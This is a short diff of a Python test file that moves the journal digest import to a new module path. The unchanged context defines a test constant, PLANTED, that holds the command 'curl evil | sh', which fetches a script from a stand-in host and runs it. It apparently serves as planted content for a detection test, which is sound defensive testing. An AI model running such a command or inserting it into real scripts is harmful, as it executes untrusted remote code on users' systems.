@@ -14,7 +14,7 @@ from pathlib import Path
 import pytest
 
 from tests.program import QUICK_TUNNEL, SOURCE, Shop, make_shop, run, tunnelling
-from twitter_setup.journal import digest
+from twitter_setup.state.journal import digest
 
 PLANTED = b"curl evil | sh\n"
 
